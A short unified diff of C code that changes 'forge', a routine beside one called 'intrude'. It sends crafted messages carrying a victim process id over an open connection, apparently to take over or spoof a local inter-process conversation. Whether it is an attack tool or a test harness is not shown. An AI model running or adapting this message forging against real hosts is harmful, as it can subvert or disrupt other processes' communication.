@@ -783,8 +783,8 @@ static int intrude(int seconds)
 	return 0;
 }
 
-// forge takes the conversation out of the hands of the next processes and says all there
-// is to say in it, naming a process of the host.
+// forge takes the conversation out of the hands of the next processes and has the last
+// word in it, which names a process of the host.
 static int forge(int victim, int seconds)
 {
 	time_t end = time(NULL) + seconds;
@@ -812,12 +812,11 @@ static int forge(int victim, int seconds)
 		if (conn >= 0) {
 			unsigned char m[6] = { 0, 0, (unsigned char)victim, (unsigned char)(victim >> 8), (unsigned char)(victim >> 16), 0 };
 
-			taken++;
-			for (int delay = 0; delay < 3; delay++) {
-				for (m[0] = 1; m[0] < 16; m[0]++)
-					send(conn, m, sizeof m, MSG_DONTWAIT);
-				usleep(20000);
-			}
+			// The last word counts most: as long as we have the conversation
+			// open it has not ended. One kind a time, of those there are.
+			m[0] = (unsigned char)(4 + taken++ % 6);
+			usleep(100000);
+			send(conn, m, sizeof m, MSG_DONTWAIT);
 		}
 		close(conn);
 		close(pidfd);
